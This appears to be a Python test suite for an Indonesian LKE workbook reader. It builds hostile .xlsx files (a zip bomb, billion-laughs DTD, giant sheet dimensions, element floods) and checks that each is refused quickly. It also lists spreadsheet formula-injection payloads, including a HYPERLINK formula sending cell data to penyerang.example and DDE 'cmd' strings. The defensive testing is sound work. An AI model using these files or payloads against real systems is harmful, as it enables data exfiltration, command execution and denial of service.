"""Hostile LKE workbooks (issue 13, points 1 and 14).

Point 1: a 26 KB workbook whose one cell sits at row 1,048,576 kept a worker busy for three
minutes at 2 GB. Each hostile file here is refused with a message a coordinator understands,
in well under a second (the bound asserted is 2 s, generous for a shared machine: the point is
that it never takes minutes). Every file is built here from a normal workbook, rewriting its
zip, so that no binary fixture is committed.

Point 14: notes exported to the workbook became live formulas. Every note is written as text
that no spreadsheet evaluates, and comes back unchanged.
"""

from __future__ import annotations

import re
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Mapping
from io import BytesIO
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter

from tests.lke.helpers import Sheet, perfect_answers
from tracker.errors import ValidationError
from tracker.lke.answers import parse_answers
from tracker.lke.cli import lke_cli
from tracker.lke.framework import Framework, get_framework
from tracker.lke.worksheet import SHEET_NAME, read_worksheet, write_worksheet
from tracker.lke.worksheet.layout import GROUP_COLUMNS, formula_like
from tracker.lke.worksheet.limits import MAX_UNPACKED_BYTES, check_parts, declared_parts

SHEET_PART = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REFUSED = "Berkas ini tidak dapat dibaca sebagai LKE: "
FAST = 2.0  # seconds; a refusal takes milliseconds, the attack took minutes
NOTE_COLUMN = GROUP_COLUMNS["unit"][1] + 2  # the unit's Catatan


@pytest.fixture(scope="module")
def framework() -> Framework:
    return get_framework("lke-2021")


@pytest.fixture(scope="module")
def lke(framework: Framework) -> bytes:
    """A normal, filled official worksheet as our own writer makes it."""
    return write_worksheet(framework, perfect_answers(framework))


# --- building hostile files -------------------------------------------------------------------


def rezip(data: bytes, changes: Mapping[str, bytes]) -> bytes:
    """``data`` with parts replaced or added, deflated like any .xlsx."""
    source = zipfile.ZipFile(BytesIO(data))
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, changes.get(name, source.read(name)))
        for name in changes.keys() - set(source.namelist()):
            target.writestr(name, changes[name])
    return buffer.getvalue()


def edit_part(data: bytes, part: str, edit: Callable[[str], str]) -> bytes:
    text = zipfile.ZipFile(BytesIO(data)).read(part).decode("utf-8")
    return rezip(data, {part: edit(text).encode("utf-8")})


def add_rows(data: bytes, rows: str) -> bytes:
    return edit_part(
        data, SHEET_PART, lambda xml: xml.replace("</sheetData>", rows + "</sheetData>")
    )


def text_cell(reference: str, text: str = "x") -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


def one_cell_at_the_last_row(_lke: bytes) -> bytes:
    """The reported attack: a workbook of a few KB whose only cell is A1048576."""
    book = Workbook()
    book.active.title = SHEET_NAME
    book.active.cell(1_048_576, 1, "x")
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def last_row_beyond_the_dimension(lke: bytes) -> bytes:
    """The LKE sheet says A1:R205 but holds a cell at row 1,048,576."""
    return add_rows(lke, f'<row r="1048576">{text_cell("A1048576")}</row>')


def last_row_without_a_dimension(lke: bytes) -> bytes:
    data = last_row_beyond_the_dimension(lke)
    return edit_part(data, SHEET_PART, lambda xml: re.sub(r"<dimension [^>]*/>", "", xml))


def huge_dimension(lke: bytes) -> bytes:
    return edit_part(
        lke, SHEET_PART, lambda xml: xml.replace('ref="A1:R205"', 'ref="A1:XFD1048576"')
    )


def last_column(lke: bytes) -> bytes:
    return add_rows(lke, f'<row r="206">{text_cell("XFD206")}</row>')


def too_many_cells(lke: bytes) -> bytes:
    """50,100 cells in rows 206-706 and columns A-CV: within the row and column limits."""
    letters = [get_column_letter(column) for column in range(1, 101)]
    rows = "".join(
        f'<row r="{row}">' + "".join(f'<c r="{c}{row}"><v>1</v></c>' for c in letters) + "</row>"
        for row in range(206, 707)
    )
    return add_rows(lke, rows)


def shared_strings(count: int, *, declared: bool) -> Callable[[bytes], bytes]:
    def build(lke: bytes) -> bytes:
        counts = f' count="{count}" uniqueCount="{count}"' if declared else ""
        strings = "".join(f"<si><t>s{i}</t></si>" for i in range(count))
        content_type = (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>'
        )
        data = edit_part(
            lke, "[Content_Types].xml", lambda xml: xml.replace("</Types>", content_type)
        )
        xml = f'<sst xmlns="{MAIN}"{counts}>{strings}</sst>'
        return rezip(data, {"xl/sharedStrings.xml": xml.encode()})

    return build


def inflating_part(lke: bytes) -> bytes:
    """A 10 MB part of spaces: it deflates to about 10 KB, so it inflates about 1000 times."""
    padding = b"<a>" + b" " * (10 * 1024 * 1024) + b"</a>"
    return rezip(lke, {"customXml/item1.xml": padding})


def too_many_parts(lke: bytes) -> bytes:
    return rezip(lke, {f"customXml/item{i}.xml": b"<a/>" for i in range(1_001)})


def billion_laughs(lke: bytes) -> bytes:
    entities = '<!ENTITY a "hahahahahahaha">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)
    )
    doctype = f"<!DOCTYPE worksheet [{entities}]>"
    return edit_part(lke, SHEET_PART, lambda xml: doctype + xml.replace("<v>", "<v>&j;", 1))


def bloated_styles(lke: bytes) -> bytes:
    """30,000 cell formats: openpyxl would build an object for each, twice."""
    formats = "".join(
        f'<xf numFmtId="{i % 50}" fontId="0" fillId="0" borderId="0"/>' for i in range(30_000)
    )
    return edit_part(
        lke,
        "xl/styles.xml",
        lambda xml: re.sub(
            r"<cellXfs.*?</cellXfs>", f"<cellXfs>{formats}</cellXfs>", xml, flags=re.S
        ),
    )


def element_flood(lke: bytes) -> bytes:
    """A second worksheet part of 300,000 elements (no cells), which nothing links to."""
    elements = "".join(f'<x a="{i}"/>' for i in range(300_000))
    return rezip(
        lke,
        {"xl/worksheets/sheet9.xml": f'<worksheet xmlns="{MAIN}">{elements}</worksheet>'.encode()},
    )


HOSTILE = {
    "one cell at row 1,048,576 (the reported file)": (
        one_cell_at_the_last_row,
        "lembar LKE ZI berisi lebih dari 5.000 baris (baris terakhir 1.048.576).",
    ),
    "a cell at row 1,048,576 under a dimension of A1:R205": (
        last_row_beyond_the_dimension,
        "lembar LKE ZI berisi lebih dari 5.000 baris (baris terakhir 1.048.576).",
    ),
    "a cell at row 1,048,576 and no dimension": (
        last_row_without_a_dimension,
        "lembar LKE ZI berisi lebih dari 5.000 baris (baris terakhir 1.048.576).",
    ),
    "a dimension of A1:XFD1048576": (
        huge_dimension,
        "lembar LKE ZI berisi lebih dari 5.000 baris (baris terakhir 1.048.576).",
    ),
    "a cell in column XFD": (
        last_column,
        "lembar LKE ZI berisi lebih dari 100 kolom (kolom terakhir XFD).",
    ),
    "50,100 cells": (too_many_cells, "lembar LKE ZI berisi lebih dari 50.000 sel."),
    "1,000,000 shared strings, declared": (
        shared_strings(1_000_000, declared=True),
        "buku kerja berisi lebih dari 20.000 teks berbeda.",
    ),
    "1,000,000 shared strings, undeclared": (
        shared_strings(1_000_000, declared=False),
        "buku kerja berisi lebih dari 20.000 teks berbeda.",
    ),
    "a part that inflates 1000 times": (
        inflating_part,
        re.compile(
            r"bagian customXml/item1\.xml mengembang 1\.\d{3} kali saat dibuka "
            r"\(paling banyak 200 kali\)\.$"
        ),
    ),
    "1,010 parts": (too_many_parts, "arsip berisi lebih dari 1.000 bagian."),
    "a DTD (billion laughs)": (
        billion_laughs,
        "bagian xl/worksheets/sheet1.xml memuat deklarasi DTD, yang tidak pernah ada di berkas "
        "Excel.",
    ),
    "30,000 cell formats": (
        bloated_styles,
        "bagian xl/styles.xml berisi lebih dari 20.000 elemen XML; salin lembar LKE ZI ke buku "
        "kerja baru lalu unggah lagi.",
    ),
    "300,000 elements in an unused part": (
        element_flood,
        "struktur XML-nya lebih dari 250.000 elemen; salin lembar LKE ZI ke buku kerja baru lalu "
        "unggah lagi.",
    ),
}


def refuse(data: bytes | Path, framework: Framework) -> tuple[str, float]:
    """(message, seconds) of reading ``data``, which must be refused."""
    start = time.perf_counter()
    with pytest.raises(ValidationError) as caught:
        read_worksheet(data, framework)
    return str(caught.value), time.perf_counter() - start


# --- point 1: refused fast, with a clear message ------------------------------------------------


@pytest.mark.parametrize("case", list(HOSTILE))
def test_a_hostile_workbook_is_refused_fast(case: str, lke: bytes, framework: Framework) -> None:
    build, expected = HOSTILE[case]
    message, seconds = refuse(build(lke), framework)
    assert message.startswith(REFUSED)
    reason = message.removeprefix(REFUSED)
    assert expected.search(reason) if isinstance(expected, re.Pattern) else reason == expected
    assert seconds < FAST, f"{case}: refused after {seconds:.2f} s"


def test_the_reported_file_is_refused_in_little_memory(lke: bytes, framework: Framework) -> None:
    data = one_cell_at_the_last_row(lke)
    tracemalloc.start()
    try:
        refuse(data, framework)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 20 * 1024 * 1024  # it took 2 GB


def test_the_number_of_parts_is_read_from_the_zip_before_it_is_opened(lke: bytes) -> None:
    assert declared_parts(lke) == len(zipfile.ZipFile(BytesIO(lke)).namelist())
    assert (
        declared_parts(too_many_parts(lke)) == len(zipfile.ZipFile(BytesIO(lke)).namelist()) + 1_001
    )
    assert declared_parts(b"%PDF-1.7") is None


def test_a_part_larger_than_it_declares_is_cut_there(lke: bytes, framework: Framework) -> None:
    """The limits trust the sizes the zip declares because zipfile enforces them: it stops
    inflating at the declared size and the checksum of the cut part fails."""
    data = bytearray(lke)
    info = zipfile.ZipFile(BytesIO(lke)).getinfo(SHEET_PART)
    struct.pack_into("<L", data, info.header_offset + 22, 100)  # local header: unpacked size
    name = SHEET_PART.encode()
    entry = data.find(b"PK\x01\x02")  # the first central directory entry
    while data[entry + 46 : entry + 46 + len(name)] != name:
        entry = data.find(b"PK\x01\x02", entry + 4)
    struct.pack_into("<L", data, entry + 24, 100)  # central directory: unpacked size
    assert zipfile.ZipFile(BytesIO(bytes(data))).getinfo(SHEET_PART).file_size == 100
    message, seconds = refuse(bytes(data), framework)
    assert message == "Berkas bukan buku kerja Excel (.xlsx) yang dapat dibaca"
    assert seconds < FAST


def test_the_unpacked_size_is_bounded_by_what_the_zip_declares() -> None:
    parts = []
    for i in range(6):
        info = zipfile.ZipInfo(f"xl/media/image{i}.png")
        info.file_size, info.compress_size = 9 * 1024 * 1024, 9 * 1024 * 1024  # incompressible
        parts.append(info)
    assert MAX_UNPACKED_BYTES < 6 * 9 * 1024 * 1024
    with pytest.raises(ValidationError, match="isinya lebih dari 50 MB setelah dibuka"):
        check_parts(parts)
    check_parts(parts[:5])  # 45 MB is fine


def test_a_file_over_20_mb_is_refused_before_it_is_read(
    tmp_path: Path, framework: Framework
) -> None:
    path = tmp_path / "besar.xlsx"
    with path.open("wb") as handle:
        handle.truncate(20 * 1024 * 1024 + 1)  # sparse: nothing is written
    message, seconds = refuse(path, framework)
    assert message == REFUSED + "berkas lebih dari 20 MB."
    assert seconds < FAST


def test_the_cli_exits_non_zero_with_the_message(tmp_path: Path, lke: bytes) -> None:
    path = tmp_path / "lke.xlsx"
    path.write_bytes(one_cell_at_the_last_row(lke))
    start = time.perf_counter()
    result = CliRunner().invoke(lke_cli, ["score", str(path)])
    assert result.exit_code == 1
    assert REFUSED + "lembar LKE ZI berisi lebih dari 5.000 baris" in result.output
    assert time.perf_counter() - start < FAST


# --- normal workbooks read as before ------------------------------------------------------------


def test_a_normal_filled_worksheet_reads_as_before(framework: Framework) -> None:
    answers = perfect_answers(framework) | {"A.I.1.i.b": "B", "A.II.5.iii.a.1": [1, 2, 3, 5]}
    data = Sheet(framework, answers).to_bytes(computed=answers)
    result = read_worksheet(data, framework)
    assert parse_answers(framework, result.answers) == parse_answers(framework, answers)
    assert result.issues == []
    assert len(result.rows) == len(list(framework.items()))


def test_a_sheet_at_every_limit_is_read(framework: Framework) -> None:
    """A stray cell at row 5,000 in column CV (100): the limits are inclusive."""
    answers = {"A.I.1.i.a": "Ya", "B.I.a": 3.61}
    sheet = Sheet(framework, answers)
    data = add_rows(sheet.to_bytes(), f'<row r="5000">{text_cell("CV5000", "catatan")}</row>')
    assert (
        read_worksheet(data, framework).answers
        == read_worksheet(sheet.to_bytes(), framework).answers
    )


def test_a_value_hidden_under_a_merged_range_is_not_read(framework: Framework) -> None:
    """Excel shows only the top-left value of a merged range; so does the reader."""
    data = write_worksheet(framework, {"A.I.1.i.a": "Ya"})
    row = read_worksheet(data, framework).rows["A.I.1.i.a"]
    book = load_workbook(BytesIO(data))
    sheet = book[SHEET_NAME]
    sheet.merge_cells(start_row=row, start_column=10, end_row=row, end_column=11)
    buffer = BytesIO()
    book.save(buffer)
    xml = lambda text: re.sub(rf'<c r="K{row}"[^>]*/>', text_cell(f"K{row}", "Tidak"), text)  # noqa: E731
    hidden = edit_part(buffer.getvalue(), SHEET_PART, xml)
    assert "Tidak" in zipfile.ZipFile(BytesIO(hidden)).read(SHEET_PART).decode()
    assert "A.I.1.i.a" not in read_worksheet(hidden, framework).answers


# --- point 14: notes never become formulas ------------------------------------------------------

HOSTILE_NOTES = [
    '=HYPERLINK("http://penyerang.example/?d="&A1,"Klik di sini")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "#N/A",
    "Catatan biasa: SK sudah ditandatangani.",
]


def notes_for(framework: Framework) -> dict[str, str]:
    codes = [item.code for item in framework.items()]
    return dict(zip(codes, HOSTILE_NOTES, strict=False))


def formula_cells(data: bytes) -> set[str]:
    sheet = load_workbook(BytesIO(data))[SHEET_NAME]
    return {cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"}


@pytest.mark.parametrize("text", HOSTILE_NOTES)
def test_formula_like_text_is_recognised(text: str) -> None:
    assert formula_like(text) == (text[0] in "=+-@\t\r\uff1d")


def test_notes_are_written_as_text_that_comes_back_unchanged(framework: Framework) -> None:
    notes = notes_for(framework)
    data = write_worksheet(framework, {"A.I.1.i.a": "Ya"}, notes)
    rows = read_worksheet(data, framework).rows
    sheet = load_workbook(BytesIO(data))[SHEET_NAME]
    for code, note in notes.items():
        cell = sheet.cell(rows[code], NOTE_COLUMN)
        assert cell.data_type == "s", note
        assert cell.value == note.replace("\r", "\n")  # XML reads a carriage return as a newline
        assert cell.quotePrefix == formula_like(note)  # Excel keeps it text when it is edited


def test_notes_add_no_formula_and_change_no_answer(framework: Framework) -> None:
    answers = {"A.I.1.i.a": "Ya", "A.I.1.i.b": "B"}
    plain = write_worksheet(framework, answers)
    noted = write_worksheet(framework, answers, notes_for(framework))
    assert formula_cells(noted) == formula_cells(plain)  # only the Nilai formulas we write
    with_notes, without = read_worksheet(noted, framework), read_worksheet(plain, framework)
    assert (with_notes.answers, with_notes.issues, with_notes.rows) == (
        without.answers,
        without.issues,
        without.rows,
    )
    assert with_notes.links == {}  # an address inside a note is no evidence link


def test_a_control_character_in_a_note_does_not_fail_the_export(framework: Framework) -> None:
    code = next(iter(framework.items())).code
    data = write_worksheet(framework, {}, {code: "SK\x00nomor\x1b7"})
    row = read_worksheet(data, framework).rows[code]
    assert (
        load_workbook(BytesIO(data))[SHEET_NAME].cell(row, NOTE_COLUMN).value
        == "SK\ufffdnomor\ufffd7"
    )
